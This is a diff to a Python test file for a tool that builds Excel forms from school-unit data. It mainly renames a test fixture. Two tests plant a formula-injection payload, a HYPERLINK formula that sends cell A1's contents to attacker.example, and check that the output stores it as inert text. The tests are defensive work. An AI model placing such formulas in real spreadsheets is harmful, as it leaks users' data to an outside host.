@@ -434,20 +434,20 @@ def test_aes256_pdf_with_edit_restrictions_only_is_read(tmp_path: Path, capsys) 
 
 
 def test_text_that_looks_like_a_formula_stays_text_in_the_form(
-    content_copy: Path, tmp_path: Path, capsys
+    district_copy: Path, tmp_path: Path, capsys
 ) -> None:
     import zipfile
 
     from openpyxl import load_workbook
 
     evil = '=HYPERLINK("http://attacker.example/?"&A1,"Bấm vào đây")'
-    units = content_copy / "2024" / "units.yaml"
+    units = district_copy / "2024" / "units.yaml"
     text = units.read_text(encoding="utf-8")
     units.write_text(
         text.replace("name: Chi hội Khuyến học Trường THPT Nguyễn Du", f"name: '{evil}'", 1),
         encoding="utf-8",
     )
-    plan = content_copy / "2024" / "plan.yaml"
+    plan = district_copy / "2024" / "plan.yaml"
     ptext = plan.read_text(encoding="utf-8")
     import re
 
@@ -457,7 +457,7 @@ def test_text_that_looks_like_a_formula_stays_text_in_the_form(
     plan.write_text(ptext, encoding="utf-8")
     form = tmp_path / "form.xlsx"
     code, _, err, _ = run(
-        ["form", "--content", str(content_copy), "--year", "2024", "--out", str(form)], capsys
+        ["form", "--content", str(district_copy), "--year", "2024", "--out", str(form)], capsys
     )
     assert code == 0, err
     with zipfile.ZipFile(form) as z:
@@ -471,7 +471,9 @@ def test_text_that_looks_like_a_formula_stays_text_in_the_form(
     assert any(isinstance(v, str) and "=1+1" in v for v in values)
 
 
-def test_scores_carried_into_the_form_stay_text(content_copy: Path, tmp_path: Path, capsys) -> None:
+def test_scores_carried_into_the_form_stay_text(
+    district_copy: Path, tmp_path: Path, capsys
+) -> None:
     """`docgen form` carries the scores and notes already typed in scores.csv: a typed value that
     looks like a formula is written as text, never as a live formula."""
     import re
@@ -480,7 +482,7 @@ def test_scores_carried_into_the_form_stay_text(content_copy: Path, tmp_path: Pa
     from openpyxl import load_workbook
 
     evil = '=HYPERLINK("http://attacker.example/?"&A1,"Bấm vào đây")'
-    csv = content_copy / "2024" / "scores.csv"
+    csv = district_copy / "2024" / "scores.csv"
     lines = csv.read_text(encoding="utf-8-sig").splitlines(keepends=True)
     cells = lines[2].rstrip("\n").split(";")  # the second unit (no ';' in its notes)
     assert cells[1] == "thpt-nguyen-du"
@@ -490,7 +492,7 @@ def test_scores_carried_into_the_form_stay_text(content_copy: Path, tmp_path: Pa
     csv.write_text("".join(lines), encoding="utf-8")
     form = tmp_path / "form.xlsx"
     code, _, err, _ = run(
-        ["form", "--content", str(content_copy), "--year", "2024", "--out", str(form)], capsys
+        ["form", "--content", str(district_copy), "--year", "2024", "--out", str(form)], capsys
     )
     assert code == 0, err
     with zipfile.ZipFile(form) as z:
